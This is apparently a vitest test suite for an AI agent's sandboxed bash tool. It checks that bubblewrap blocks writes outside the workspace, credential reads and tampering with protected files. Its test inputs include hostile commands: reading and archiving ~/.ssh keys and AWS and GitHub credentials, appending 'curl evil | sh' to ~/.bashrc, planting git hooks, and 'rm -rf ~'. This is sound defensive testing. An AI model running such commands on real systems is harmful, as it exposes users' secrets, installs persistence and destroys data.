import { existsSync, unlinkSync } from 'node:fs';
import { createServer, type AddressInfo } from 'node:net';
import { chmod, mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { join, relative } from 'node:path';
import { BubblewrapBackend, SandboxUnavailableError, type PathGrant, type SandboxCommand, type SandboxPolicy, type WrappedCommand } from '@openwork/sandbox';
import { NodeProcessBackend } from '@openwork/process-backend';
import { ToolResult } from '@openwork/tools-contract';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { createFixture, type BuiltinsFixture } from '../test-support/builtins-fixture.js';
import { createBashFixture, requireBubblewrap, type BashFixture } from './test-support/bash-fixture.js';
import { RecordingProcessBackend } from './test-support/recording-backends.js';

const fixtures: BuiltinsFixture[] = [];
async function bashFixture(...args: Parameters<typeof createBashFixture>): Promise<BashFixture> {
  const fixture = await createBashFixture(...args);
  fixtures.push(fixture);
  return fixture;
}
beforeAll(requireBubblewrap);
afterEach(async () => {
  await Promise.all(fixtures.splice(0).map((fixture) => fixture.cleanup()));
});

function normalised(text: string): string {
  return text.replace(/; duration \d+ ms\]/g, '; duration N ms]');
}

/** The retry hint of architecture §3.5 for these grants. */
function retryHint(paths: readonly { path: string; access: string }[]): string {
  const grants = JSON.stringify({ paths: paths.map((entry) => ({ path: entry.path, access: entry.access, scope: 'exact' })) });
  return `To get access, call bash again with sandboxPermissions ${grants} and a one-line justification; the user will be asked.]`;
}

/** Every path below `root`, as `type relative-path` lines (to prove nothing was left behind). */
async function tree(root: string): Promise<string[]> {
  const lines: string[] = [];
  const walk = async (directory: string): Promise<void> => {
    for (const entry of await readdir(directory, { withFileTypes: true })) {
      const path = join(directory, entry.name);
      lines.push(`${entry.isDirectory() ? 'd' : entry.isSymbolicLink() ? 'l' : 'f'} ${relative(root, path)}`);
      if (entry.isDirectory()) await walk(path);
    }
  };
  await walk(root);
  return lines.sort();
}

/** Inserts a bwrap option that makes bwrap itself fail before the command starts (`Read-only file system`). */
function breakRunner(argv: readonly string[]): readonly string[] {
  const separator = argv.indexOf('--'); // bwrap's end of options; the command (the Landlock helper, then bash) follows
  return [...argv.slice(0, separator), '--dir', '/usr/openwork-runner-probe', ...argv.slice(separator)];
}

describe('bash in the kernel sandbox (§7.9, architecture §3.4)', () => {
  it('a host socket that goes away between wrap and the start does not fail the call: it is wrapped again (architecture §3.7)', async () => {
    // The daemon's socket lies where the command may not write (outside every root): when it goes
    // away after wrap masked it, bwrap cannot create the mount point and fails before the command.
    let path = '';
    let vanished = false;
    const fixture = await bashFixture({
      tamper: (argv) => {
        if (!vanished && argv.includes(path)) {
          vanished = true;
          unlinkSync(path); // as a daemon ending right now does; it no longer lists it once its file is gone
        }
        return argv;
      },
    });
    path = join(fixture.outside, 'agent.sock');
    const daemon = createServer();
    await new Promise<void>((resolve) => daemon.listen(path, resolve));
    try {
      const result = await fixture.call('bash', { command: 'echo ran' });
      expect(vanished).toBe(true);
      expect(normalised(ToolResult.text(result))).toBe('ran\n[exit 0; duration N ms]');
      expect(result.status).toBe('succeeded');
      expect(fixture.sandbox.wraps).toHaveLength(2);
      expect(fixture.sandbox.wraps[0]?.argv.join(' ')).toContain(`--ro-bind /dev/null ${path}`);
      expect(fixture.sandbox.wraps[1]?.argv.join(' ')).not.toContain(path);
      expect(fixture.sandbox.wraps.every((wrap) => wrap.released === 1)).toBe(true);
      expect(existsSync(path)).toBe(false);
    } finally {
      await new Promise<void>((resolve) => daemon.close(() => resolve()));
    }
  });

  it('a command\'s own "bwrap: Can\'t create file" line about a path this call never masked is not taken for a vanished socket: it runs once', async () => {
    const fixture = await bashFixture();
    const marker = join(fixture.workspace, 'runs.txt');
    const result = await fixture.call('bash', { command: `echo x >> runs.txt; echo "bwrap: Can't create file at ${fixture.outside}/gone.sock: Read-only file system" >&2; exit 1` });
    expect(result.status).not.toBe('succeeded');
    expect(await readFile(marker, 'utf8')).toBe('x\n');
    expect(fixture.sandbox.wraps).toHaveLength(1);
  });

  it('acc_10c_bash_runs_under_the_policy_of_this_call', async () => {
    const fixture = await bashFixture();
    const outsideFile = join(fixture.outside, 'x.txt');
    const write = (policy: SandboxPolicy, text: string) =>
      fixture.call('bash', { command: `echo ${text} > inside.txt; echo ${text} > ../outside/x.txt` }, { policy });

    const workspaceWrite = fixture.policy({ mode: 'workspace-write' });
    const first = await write(workspaceWrite, 'one');
    expect(first.sandboxDenied).toBe(true);
    expect(await readFile(join(fixture.workspace, 'inside.txt'), 'utf8')).toBe('one\n');
    expect(existsSync(outsideFile)).toBe(false);

    const readOnly = fixture.policy({ mode: 'read-only' });
    const second = await write(readOnly, 'two');
    expect(second.sandboxDenied).toBe(true);
    expect(ToolResult.text(second)).toContain(`inside.txt: Read-only file system`);
    expect(await readFile(join(fixture.workspace, 'inside.txt'), 'utf8')).toBe('one\n');

    const fullAccess = fixture.policy({ mode: 'full-access' });
    const third = await write(fullAccess, 'three');
    expect(normalised(ToolResult.text(third))).toBe('[exit 0; duration N ms]');
    expect(await readFile(outsideFile, 'utf8')).toBe('three\n');

    expect(await readFile(join(fixture.workspace, 'inside.txt'), 'utf8')).toBe('three\n');

    const granted = fixture.policy({ mode: 'read-only', grants: [{ path: outsideFile, access: 'write', scope: 'exact' }] });
    const fourth = await write(granted, 'four');
    expect(await readFile(outsideFile, 'utf8')).toBe('four\n');
    expect(await readFile(join(fixture.workspace, 'inside.txt'), 'utf8')).toBe('three\n');
    // The read-only half failed, but the command's last step succeeded: exit 0 is never a denial (§3.5).
    expect(ToolResult.text(fourth)).toContain('inside.txt: Read-only file system');
    expect(fourth.sandboxDenied).toBe(false);

    // Each call was wrapped with exactly the policy stamped on it, and nothing else.
    expect(fixture.sandbox.wraps.map((wrap) => wrap.policy)).toEqual([workspaceWrite, readOnly, fullAccess, granted]);
    expect(fixture.sandbox.wraps.every((wrap, index) => wrap.policy === [workspaceWrite, readOnly, fullAccess, granted][index])).toBe(true);
  });

  it('acc_10d_bash_does_not_run_when_the_sandbox_is_unavailable', async () => {
    // bwrap missing: the self-check fails, the schema has no escalation parameters, nothing runs.
    const missing = await bashFixture({ bwrapPath: '/nonexistent/bwrap' });
    expect(missing.toolset.escalationAvailable).toBe(false);
    // The definitions say so before the first call.
    const bash = missing.toolset.definitions.find((definition) => definition.id === 'bash');
    expect(bash?.description).toMatch(/\n\nUnavailable on this machine: the kernel sandbox does not work here \(bubblewrap is not installed: no executable at \/nonexistent\/bwrap .*\), so every bash call fails with sandbox_unavailable and runs nothing\. Use the other tools\.$/);
    const result = await missing.call('bash', { command: 'touch ran' });
    expect(result.status).toBe('failed');
    expect(result.error?.code).toBe('sandbox_unavailable');
    expect(ToolResult.text(result)).toBe(
      'bash cannot run commands here: the kernel sandbox is unavailable (bubblewrap is not installed: no executable at /nonexistent/bwrap (spawn ENOENT); ' +
        'install it with apt-get install bubblewrap (Debian, Ubuntu), dnf install bubblewrap (Fedora, RHEL), pacman -S bubblewrap (Arch), zypper install bubblewrap (openSUSE)). ' +
        'Nothing was run — commands never run outside the sandbox, so calling bash again fails the same way. Use the other tools instead, and tell the user the sandbox does not work on this machine.',
    );
    expect(missing.sandbox.wraps).toHaveLength(0);
    expect(missing.processes.spawns).toHaveLength(0);
    expect(existsSync(join(missing.workspace, 'ran'))).toBe(false);

    // No kernel sandbox on this platform at all.
    const processes = new RecordingProcessBackend(new NodeProcessBackend());
    const none = await createFixture({ escalationAvailable: 'self-check', processBackend: processes });
    fixtures.push(none);
    const refused = await none.call('bash', { command: 'touch ran' });
    expect(refused.error?.code).toBe('sandbox_unavailable');
    expect(processes.spawns).toHaveLength(0);
    expect(existsSync(join(none.workspace, 'ran'))).toBe(false);

    // A backend that passed its self-check but refuses this wrap (bubblewrap on a case-folding volume).
    class RefusingBackend extends BubblewrapBackend {
      override wrap(_command: SandboxCommand, _policy: SandboxPolicy): WrappedCommand {
        throw new SandboxUnavailableError('bubblewrap cannot protect this session: /ws is on a case-insensitive file system');
      }
    }
    const refusingProcesses = new RecordingProcessBackend(new NodeProcessBackend());
    const refusing = await createFixture({ sandbox: new RefusingBackend(), escalationAvailable: 'self-check', processBackend: refusingProcesses });
    fixtures.push(refusing);
    const refusedWrap = await refusing.call('bash', { command: 'touch ran' });
    expect(refusedWrap.error?.code).toBe('sandbox_unavailable');
    expect(ToolResult.text(refusedWrap)).toContain('(bubblewrap cannot protect this session: /ws is on a case-insensitive file system)');
    expect(refusingProcesses.spawns).toHaveLength(0);
    expect(existsSync(join(refusing.workspace, 'ran'))).toBe(false);
  });

  it('an_unavailable_sandbox_reports_no_dangerous_command', async () => {
    const unavailable = await bashFixture({ bwrapPath: '/nonexistent/bwrap' });
    const quiet = unavailable.toolset.prepare('bash', { command: 'rm -rf ~' });
    expect(quiet.ok && quiet.call.inspection).toEqual({ kind: 'runs', command: 'rm -rf ~' });

    const available = await bashFixture();
    const flagged = available.toolset.prepare('bash', { command: 'echo ok && rm -rf ~' });
    expect(flagged.ok && flagged.call.inspection.kind).toBe('runs');
    const danger = flagged.ok ? (flagged.call.inspection['danger'] as { dangerous: boolean; findings: { rule: string }[] }) : undefined;
    expect(danger?.dangerous).toBe(true);
    expect(danger?.findings.map((finding) => finding.rule)).toContain('recursive-delete');
    const harmless = available.toolset.prepare('bash', { command: 'ls -la' });
    expect(harmless.ok && harmless.call.inspection).toEqual({ kind: 'runs', command: 'ls -la' });
    // prepare runs nothing.
    expect(available.processes.spawns).toHaveLength(0);
  });

  it('the only spawn of bash goes through wrap: every spawned argv is a wrapped one, released once', async () => {
    const fixture = await bashFixture();
    const turn = new AbortController();
    await fixture.call('bash', { command: 'echo plain' });
    await fixture.call('bash', { command: 'exit 3' });
    await fixture.call('bash', { command: 'touch ~/.bashrc' });
    await fixture.call('bash', { command: 'sleep 30', timeoutMs: 500 });
    await fixture.call('bash', { command: `echo go; sleep 30` }, { signal: turn.signal, progress: () => turn.abort() });
    await fixture.call('bash', { command: `: ${'z'.repeat(200 * 1024)}; echo long` });
    const broken = await bashFixture({ tamper: breakRunner });
    await broken.call('bash', { command: 'echo never' });
    for (const run of [fixture, broken]) {
      expect(run.processes.spawns.length).toBe(run.sandbox.wraps.length);
      run.processes.spawns.forEach((spawn, index) => {
        const wrap = run.sandbox.wraps[index];
        expect(spawn.argv).toEqual(wrap?.argv);
        expect(spawn.argv[0]).toBe('/usr/bin/bwrap');
        expect(wrap?.command.argv[0]).toBe('/bin/bash');
        expect(wrap?.released).toBe(1);
      });
    }
    expect(fixture.processes.spawns).toHaveLength(6);
  });

  it('acc_10e_kernel_denials_are_marked_with_the_escalation_hint', async () => {
    const fixture = await bashFixture();
    await fixture.call('bash', { command: 'true' }); // the sandbox's helpers are in the OpenWork home from the first call on
    const homeBefore = await tree(fixture.home);
    const result = await fixture.call('bash', { command: 'touch ~/.bashrc' });
    const bashrc = join(fixture.home, '.bashrc');
    expect(result.status).toBe('succeeded');
    expect(result.sandboxDenied).toBe(true);
    expect(normalised(ToolResult.text(result))).toBe(
      `touch: cannot touch '${bashrc}': Read-only file system\n[exit 1; duration N ms]\n` +
        `[sandbox denied: touch: cannot touch '${bashrc}': Read-only file system. ${retryHint([{ path: bashrc, access: 'write' }])}`,
    );
    // Nothing appeared on the host (no file, no leftover mount point).
    expect(await tree(fixture.home)).toEqual(homeBefore);

    // A relative path outside the workspace is resolved against the working directory.
    const outside = await fixture.text('bash', { command: 'echo x > ../outside/y.txt' });
    expect(outside).toContain(`[sandbox denied: /bin/bash: line 1: ../outside/y.txt: Read-only file system. ${retryHint([{ path: join(fixture.outside, 'y.txt'), access: 'write' }])}`);
  });

  it('ordinary failures are not called denials: a file mode, or output that only talks about it', async () => {
    const fixture = await bashFixture();
    await writeFile(join(fixture.workspace, 'locked.txt'), 'secret');
    await chmod(join(fixture.workspace, 'locked.txt'), 0o000);
    const modeDenied = await fixture.call('bash', { command: 'cat locked.txt' });
    expect(normalised(ToolResult.text(modeDenied))).toBe('cat: locked.txt: Permission denied\n[exit 1; duration N ms]');
    expect(modeDenied.sandboxDenied).toBe(false);
    const chatter = await fixture.call('bash', { command: `echo "the sandbox denied nothing"; echo "touch: cannot touch 'x': Read-only file system"; exit 1` });
    expect(chatter.sandboxDenied).toBe(false);
    expect(ToolResult.text(chatter)).not.toContain('[sandbox denied');
    const zero = await fixture.call('bash', { command: 'touch ~/.profile; true' });
    expect(zero.sandboxDenied).toBe(false);
  });

  it('acc_10e_a_runner_failure_is_unavailable_not_denied', async () => {
    const fixture = await bashFixture({ tamper: breakRunner });
    const result = await fixture.call('bash', { command: 'touch ran' });
    expect(result.status).toBe('failed');
    expect(result.error?.code).toBe('sandbox_unavailable');
    expect(result.sandboxDenied).toBe(false);
    const text = ToolResult.text(result);
    expect(normalised(text)).toBe(
      "bash did not run the command: the kernel sandbox failed to start (the sandbox runner failed: bwrap: Can't mkdir /usr/openwork-runner-probe: Read-only file system). " +
        "This is a problem of this machine's sandbox, not of the command, and running it again fails the same way; nothing was run outside the sandbox.\n[exit 1; duration N ms]",
    );
    expect(text).not.toContain('[sandbox denied');
    expect(existsSync(join(fixture.workspace, 'ran'))).toBe(false);
    expect(fixture.sandbox.wraps[0]?.released).toBe(1);
  });

  it('acc_26_bash_cannot_write_the_spill_directory', async () => {
    const fixture = await bashFixture();
    await fixture.call('bash', { command: 'seq 1 30000' }, { callId: 'call-spilled' });
    const spillFile = join(fixture.openworkHome, 'spill', 'session-1', 'call-spilled.txt');
    const original = await readFile(spillFile, 'utf8');
    expect(original.length).toBeGreaterThan(16_384);
    const attacks = [
      'echo tampered > ~/.openwork/spill/session-1/call-spilled.txt',
      'echo tampered >> ~/.openwork/spill/session-1/call-spilled.txt',
      'rm -f ~/.openwork/spill/session-1/call-spilled.txt',
      'mv ~/.openwork/spill/session-1/call-spilled.txt ~/.openwork/spill/session-1/moved.txt',
      'ln -sf /etc/hostname ~/.openwork/spill/session-1/call-next.txt',
      'mv ~/.openwork ~/.openwork-old',
    ];
    // Even a policy that (wrongly) grants the spill directory cannot open tier 1 (architecture §3.3).
    const grants: PathGrant[] = [{ path: join(fixture.openworkHome, 'spill'), access: 'write', scope: 'subtree' }];
    for (const policy of [fixture.policy(), fixture.policy({ mode: 'full-access', grants })]) {
      for (const command of attacks) {
        const result = await fixture.call('bash', { command }, { policy });
        expect(result.status, command).toBe('succeeded');
        expect(result.sandboxDenied, command).toBe(true);
        const text = ToolResult.text(result);
        // Refused in the kernel (the spill folder is masked read-only) or, staged, when the call's
        // writes are judged (tier 1): either way with no grant to ask for.
        expect(text, command).toMatch(/\n\[exit \d+; duration \d+ ms\]\n\[(sandbox denied: .*(Read-only file system|Device or resource busy|Permission denied)|not applied: ).* (is|are) protected and cannot be changed by tools\./s);
        // No grant is ever suggested for the OpenWork home: none could open it.
        const suggested = /sandboxPermissions (\{.*\}) and a one-line/.exec(text)?.[1];
        const paths = suggested === undefined ? [] : (JSON.parse(suggested) as { paths: { path: string }[] }).paths.map((entry) => entry.path);
        expect(paths.filter((path) => path === fixture.openworkHome || path.startsWith(`${fixture.openworkHome}/`)), command).toEqual([]);
      }
    }
    expect(await readFile(spillFile, 'utf8')).toBe(original);
    expect((await readdir(join(fixture.openworkHome, 'spill', 'session-1'))).sort()).toEqual(['call-spilled.txt']);
    // In full-access `mv` of a folder copies and removes it (staged writes: rename across the
    // overlay answers EXDEV): the removal of the OpenWork home is refused, and a copy holds nothing
    // the sandbox could not read — no spilled output.
    expect(existsSync(join(fixture.home, '.openwork-old', 'spill', 'session-1', 'call-spilled.txt'))).toBe(false);
  });

  it('acc_10b_credential_directories_are_unreadable_for_file_tools_and_bash', async () => {
    const fixture = await bashFixture();
    await mkdir(join(fixture.home, '.ssh'));
    await writeFile(join(fixture.home, '.ssh', 'id_ed25519'), 'SECRET-SSH-KEY\n');
    await mkdir(join(fixture.home, '.aws'));
    await writeFile(join(fixture.home, '.aws', 'credentials'), 'SECRET-AWS\n');
    await writeFile(join(fixture.home, '.netrc'), 'machine x password SECRET-NETRC\n');
    await mkdir(join(fixture.home, '.config', 'gh'), { recursive: true });
    await writeFile(join(fixture.home, '.config', 'gh', 'hosts.yml'), 'token: SECRET-GH\n');
    const command = 'cat ~/.ssh/id_ed25519; cat ~/.aws/credentials; cat ~/.netrc; cat ~/.config/gh/hosts.yml; ls ~/.ssh; grep -rh SECRET ~; tar cf - ~/.ssh 2>&1 | strings | head -5; cp -r ~/.ssh ./copied 2>&1';
    const result = await fixture.call('bash', { command });
    const text = ToolResult.text(result);
    expect(text).not.toContain('SECRET');
    expect(result.sandboxDenied).toBe(true);
    expect(text).toContain(`cat: ${join(fixture.home, '.ssh', 'id_ed25519')}: Permission denied`);
    expect(text).toContain(`{"path":"${join(fixture.home, '.ssh', 'id_ed25519')}","access":"read","scope":"exact"}`);
    expect(await readdir(join(fixture.workspace))).not.toContain('copied-key');
    // The file tools refuse the same paths (the read half of 10b).
    const read = await fixture.call('read', { path: '~/.ssh/id_ed25519' });
    expect(read.status).toBe('denied');

    // A read grant opens exactly that file for exactly that call.
    const key = join(fixture.home, '.ssh', 'id_ed25519');
    const granted = await fixture.text('bash', { command: 'cat ~/.ssh/id_ed25519; cat ~/.aws/credentials' }, { grants: [{ path: key, access: 'read', scope: 'exact' }] });
    expect(granted).toContain('SECRET-SSH-KEY');
    expect(granted).not.toContain('SECRET-AWS');
    expect(await fixture.text('bash', { command: 'cat ~/.ssh/id_ed25519' })).not.toContain('SECRET');
  });
});

describe('bash in workspace-write: git, protected names, grants', () => {
  const identity = '-c user.name=OpenWork -c user.email=tests@openwork.invalid';

  it('git init, git add and git commit succeed; hooks and a program-running config stay out of the host', async () => {
    const fixture = await bashFixture();
    const hooks = join(fixture.workspace, '.git', 'hooks');
    const config = join(fixture.workspace, '.git', 'config');
    // Staged writes: the repository arrives with a config that runs nothing and the hook samples.
    const init = await fixture.call('bash', { command: 'git init -q && echo initialised' });
    expect(normalised(ToolResult.text(init))).toBe('initialised\n[exit 0; duration N ms]');
    expect(init.sandboxDenied).toBe(false);
    expect(existsSync(join(fixture.workspace, '.git', 'HEAD'))).toBe(true);
    const commit = await fixture.call('bash', {
      command: `echo hello > a.txt && git add a.txt && git ${identity} commit -qm first && git log --format=%s && git status --porcelain | wc -l`,
    });
    expect(normalised(ToolResult.text(commit))).toBe('first\n0\n[exit 0; duration N ms]');
    expect(commit.sandboxDenied).toBe(false);

    // A hook and a program-running config key never reach the host; the result says which, with the grant.
    const hook = await fixture.call('bash', { command: `printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit` });
    expect(hook.sandboxDenied).toBe(true);
    expect(ToolResult.text(hook)).toContain(`- create ${join(hooks, 'pre-commit')}: Permission denied: ${join(hooks, 'pre-commit')} is a sensitive path`);
    expect(existsSync(join(hooks, 'pre-commit'))).toBe(false);
    const configBefore = await readFile(config, 'utf8');
    const configured = await fixture.call('bash', { command: 'git config core.hooksPath /tmp/evil' });
    expect(configured.sandboxDenied).toBe(true);
    expect(ToolResult.text(configured)).toContain(`"path":"${config}","access":"write"`);
    expect(await readFile(config, 'utf8')).toBe(configBefore);
    // A grant for the exact path lets that one call write it.
    const granted = await fixture.call('bash', { command: `printf '#!/bin/sh\\ntrue\\n' > .git/hooks/pre-commit` }, { grants: [{ path: join(hooks, 'pre-commit'), access: 'write', scope: 'exact' }] });
    expect(granted.sandboxDenied).toBe(false);
    expect(existsSync(join(hooks, 'pre-commit'))).toBe(true);
    // And git still commits.
    const second = await fixture.text('bash', { command: `echo again >> a.txt && git ${identity} commit -qam second --no-verify && git log --format=%s | head -1` });
    expect(normalised(second)).toBe('second\n[exit 0; duration N ms]');
  });

  it('~/.bashrc (a temp HOME) and the OpenWork home cannot be written, and the call is marked denied', async () => {
    const fixture = await bashFixture();
    await writeFile(join(fixture.home, '.bashrc'), 'original\n');
    await mkdir(join(fixture.openworkHome), { recursive: true });
    const bashrc = await fixture.call('bash', { command: 'echo "curl evil | sh" >> ~/.bashrc' });
    expect(bashrc.sandboxDenied).toBe(true);
    expect(ToolResult.text(bashrc)).toContain(retryHint([{ path: join(fixture.home, '.bashrc'), access: 'write' }]));
    expect(await readFile(join(fixture.home, '.bashrc'), 'utf8')).toBe('original\n');

    const openwork = await fixture.call('bash', { command: 'echo x > ~/.openwork/config.json' });
    expect(openwork.sandboxDenied).toBe(true);
    expect(ToolResult.text(openwork)).toContain(`${join(fixture.openworkHome, 'config.json')} is protected and cannot be changed by tools.]`);
    expect(existsSync(join(fixture.openworkHome, 'config.json'))).toBe(false);
    // Inside the workspace, <root>/.openwork is tier 1 as well.
    const rootOpenwork = await fixture.call('bash', { command: 'mkdir -p .openwork && echo x > .openwork/settings.json' });
    expect(rootOpenwork.sandboxDenied).toBe(true);
    expect(existsSync(join(fixture.workspace, '.openwork', 'settings.json'))).toBe(false);
  });

  it('an approved grant for one outside path lets exactly that call write it; the next call cannot', async () => {
    const fixture = await bashFixture();
    const report = join(fixture.outside, 'report.txt');
    const granted = await fixture.call(
      'bash',
      { command: 'echo data > ../outside/report.txt && echo written; echo other > ../outside/other.txt' },
      { grants: [{ path: report, access: 'write', scope: 'exact' }] },
    );
    expect(ToolResult.text(granted)).toMatch(/^written\n/);
    expect(await readFile(report, 'utf8')).toBe('data\n');
    expect(existsSync(join(fixture.outside, 'other.txt'))).toBe(false);
    expect(granted.sandboxDenied).toBe(true);

    const next = await fixture.call('bash', { command: 'echo more >> ../outside/report.txt' });
    expect(next.sandboxDenied).toBe(true);
    expect(ToolResult.text(next)).toContain(retryHint([{ path: report, access: 'write' }]));
    expect(await readFile(report, 'utf8')).toBe('data\n');
  });

  it("the call's network setting reaches the sandbox; only a session without network says so (docs/decisions/0101)", async () => {
    const server = createServer((socket) => socket.end('hello from the host\n'));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    try {
      const port = (server.address() as AddressInfo).port;
      const fixture = await bashFixture();
      const command = `exec 3<>/dev/tcp/127.0.0.1/${port} && head -1 <&3`;
      const allowed = await fixture.call('bash', { command }, { policy: fixture.policy({ network: 'allow' }) });
      expect(normalised(ToolResult.text(allowed))).toBe('hello from the host\n[exit 0; duration N ms]');
      const none = await fixture.call('bash', { command }, { policy: fixture.policy({ network: 'none' }) });
      const text = ToolResult.text(none);
      expect(text).not.toContain('hello from the host');
      expect(text).toMatch(/\[exit 1; duration \d+ ms\]\n\[network: none\] /);
      expect(none.sandboxDenied).toBe(false);
      expect(ToolResult.text(allowed)).not.toMatch(/isolat|offline|no network|network (access )?(is )?(disabled|blocked|restricted)/i);
      expect(text).toContain("[network: none] This session's commands have no network");
    } finally {
      server.close();
    }
  });

  it('leaves no mount points behind on the host', async () => {
    const fixture = await bashFixture();
    await fixture.call('bash', { command: 'true' }); // the sandbox's helpers are in the OpenWork home from the first call on
    const before = { workspace: await tree(fixture.workspace), home: await tree(fixture.home) };
    await fixture.call('bash', { command: 'true' });
    await fixture.call('bash', { command: 'sleep 30', timeoutMs: 300 });
    await fixture.call('bash', { command: 'touch .envrc .vscode .idea' });
    expect({ workspace: await tree(fixture.workspace), home: await tree(fixture.home) }).toEqual(before);
  });
});
